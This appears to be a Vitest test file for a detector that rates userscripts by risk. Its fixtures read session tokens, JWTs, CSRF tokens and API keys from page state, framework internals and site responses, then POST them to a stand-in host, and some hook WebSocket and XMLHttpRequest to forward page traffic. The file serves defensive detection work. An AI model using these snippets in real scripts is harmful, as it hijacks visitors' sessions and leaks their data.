import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { traceOf } from "../testing/trace-of.ts";

const send = (what: string): string => `fetch("https://c.test", { method: "POST", body: ${what} });`;

/** Places in which pages keep tokens of the visitor's session. */
const SOURCES: readonly (readonly [string, string])[] = [
	[
		"data in a script element",
		`const state = JSON.parse(document.getElementById("state").textContent); ${send("state.user.accessToken")}`,
	],
	[
		"data taken apart",
		`const { auth: { token } } = JSON.parse(document.querySelector("#state").textContent); ${send("token")}`,
	],
	["a global of the page", `${send("unsafeWindow.__STATE__.auth.idToken")}`],
	["a store of the page", `${send("unsafeWindow.app.$store.getState().session.jwt")}`],
	["a method of the page", `${send("unsafeWindow.app.auth.getAccessToken()")}`],
	["a promise of the page", `unsafeWindow.authClient.getTokenSilently().then((text) => { ${send("text")} })`],
	[
		"what a framework hangs on an element",
		`const root = document.getElementById("root"); const key = Object.keys(root).find((name) => name.startsWith("__react")); ${send("root[key].memoizedProps.store.getState().auth.token")}`,
	],
	[
		"what another framework hangs there",
		`${send(`document.querySelector("#app").__vue_app__.config.globalProperties.$auth.token`)}`,
	],
	[
		"modules of the page",
		`let found; unsafeWindow.webpackChunkApp.push([["x"], {}, (load) => { for (const one of Object.values(load.c)) if (one.exports.getToken) found = one.exports; }]); ${send("found.getToken()")}`,
	],
	[
		"a reviver that waits for its name",
		`let kept; JSON.parse(document.querySelector("#state").textContent, (name, value) => { if (name === "accessToken") kept = value; return value; }); ${send("kept")}`,
	],
	["a pattern over the page", `${send(`/"csrfToken":"([^"]+)"/.exec(document.documentElement.innerHTML)[1]`)}`],
	[
		"a pattern over an answer of the site",
		`fetch("/settings").then((answer) => answer.text()).then((html) => { const [, found] = html.match(/api_key=(\\w+)/); ${send("found")} });`,
	],
	[
		"an answer of the site",
		`fetch("/api/auth/session").then((answer) => answer.json()).then((session) => { ${send("session.accessToken")} })`,
	],
];

describe("session data of the page", () => {
	test.each(SOURCES)("%s", (_title, code) => {
		const kinds = traceOf(code).sinks.flatMap(({ carried }) => carried.map(({ origin }) => origin.kind));
		expect(kinds).toContain("token");
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test.each([
		[
			"the mark of the next page of a list",
			`fetch("/api/list").then((answer) => answer.json()).then((list) => fetch("https://c.test/?after=" + list.nextPageToken));`,
		],
		["a design token", `document.body.style.color = getComputedStyle(document.body).designToken;`],
		[
			"how many tokens a text has",
			`const { totalTokens } = JSON.parse(document.querySelector("#usage").textContent); alert(totalTokens);`,
		],
		[
			"a token of the script's own service",
			`const { token } = JSON.parse(GM_getValue("login", "{}")); fetch("https://c.test/list", { headers: { Authorization: token } });`,
		],
		[
			"a token that stays on the site",
			`const { csrfToken } = JSON.parse(document.querySelector("#state").textContent); fetch("/api/list", { headers: { "X-CSRF": csrfToken } });`,
		],
	])("%s is not taken away", (_title, code) => {
		expect(analyzeScript({ code }).vulnerabilities.filter(({ severity }) => severity === "critical")).toEqual([]);
	});
});

describe("connections handed to the page", () => {
	const FORWARD = `navigator.sendBeacon("https://c.test", data)`;
	test.each([
		[
			"a proxy of the constructor",
			`unsafeWindow.WebSocket = new Proxy(unsafeWindow.WebSocket, { construct(Target, args) { const made = new Target(...args); const old = made.send.bind(made); made.send = (data) => { ${FORWARD}; old(data); }; return made; } });`,
		],
		[
			"a function in its place",
			`const Old = window.WebSocket; window.WebSocket = function (url, names) { const made = new Old(url, names); const old = made.send; made.send = function (data) { ${FORWARD}; return old.call(this, data); }; return made; };`,
		],
		[
			"a class in its place",
			`window.WebSocket = class extends WebSocket { send(data) { ${FORWARD}; super.send(data); } };`,
		],
		[
			"an older kind of request",
			`const Old = window.XMLHttpRequest; window.XMLHttpRequest = function () { const made = new Old(); const old = made.send; made.send = function (data) { ${FORWARD}; return old.apply(made, arguments); }; return made; };`,
		],
	])("%s receives what the page sends", (_title, code) => {
		expect(traceOf(code).sinks.flatMap(({ carried }) => carried.map(({ origin }) => origin.kind))).toContain("request");
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "red" });
	});

	test("a connection of its own may be counted", () => {
		const code = `let sent = 0; const made = new WebSocket("wss://c.test"); const old = made.send.bind(made); made.send = (data) => { sent += 1; old(data); }; made.onopen = () => made.send("hello");`;
		expect(analyzeScript({ code }).risk_level).not.toBe("red");
	});
});
